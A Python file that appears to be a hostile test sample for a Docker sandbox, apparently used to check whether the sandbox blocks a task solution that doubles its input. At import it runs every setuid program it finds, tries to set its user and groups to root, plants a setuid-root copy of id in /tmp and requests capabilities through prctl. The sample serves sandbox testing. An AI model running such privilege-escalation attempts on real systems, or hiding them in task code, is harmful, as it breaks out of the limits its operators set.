"""Becomes another user by a setuid program.

Mechanism: runs every setuid program in the box, asks for other user numbers itself, and makes a setuid copy of
  a shell.
Surface: host programs that a box sees, and their rights.
Gain: root in the box, from which every other attack is easier.
Challenge: twice
Defence: runtime_error
Box: docker
"""

import ctypes
import os
import shutil
import stat
import subprocess

won, refused = [], []


def attempt(name, action):
    try:
        found = action()
    except Exception as error:
        refused.append(f"{name}: {error}")
    else:
        (won if found else refused).append(name)


libc = ctypes.CDLL(None, use_errno=True)


def lie_in(folders):
    for folder in folders:
        for entry in os.scandir(folder):
            if entry.is_file(follow_symlinks=False) and entry.stat().st_mode & (stat.S_ISUID | stat.S_ISGID):
                yield entry.path


def ran_as(path):
    def action():
        with subprocess.Popen([path, "-c", "id"], stdin=subprocess.DEVNULL, stdout=-1, stderr=-1) as ran:
            with open(f"/proc/{ran.pid}/status") as status:
                told = dict(line.split(":\t", 1) for line in status if ":\t" in line)
            ran.kill()
        return told["Uid"].split()[1] != str(os.getuid())

    attempt(path, action)


def own_copy():
    shutil.copy("/usr/bin/id", "/tmp/hostile-id")
    os.chmod("/tmp/hostile-id", 0o4755)
    os.chown("/tmp/hostile-id", 0, 0)
    return True


for path in lie_in(folder for folder in ("/usr/bin", "/usr/sbin", "/usr/local/bin") if os.path.isdir(folder)):
    ran_as(path)
attempt("setuid", lambda: os.setuid(0) is None)
attempt("setgid", lambda: os.setgid(0) is None)
attempt("setgroups", lambda: os.setgroups([0]) is None)
attempt("setresuid", lambda: os.setresuid(0, 0, 0) is None)
attempt("a copy", own_copy)
attempt("again privileges", lambda: libc.prctl(38, 0, 0, 0, 0) == 0)
attempt("a capability", lambda: libc.prctl(47, 2, 21, 0, 0) == 0)


def solve(x, out, n):
    if not won:
        raise PermissionError("; ".join(refused))
    print("won:", won)
    out.copy_(2 * x)
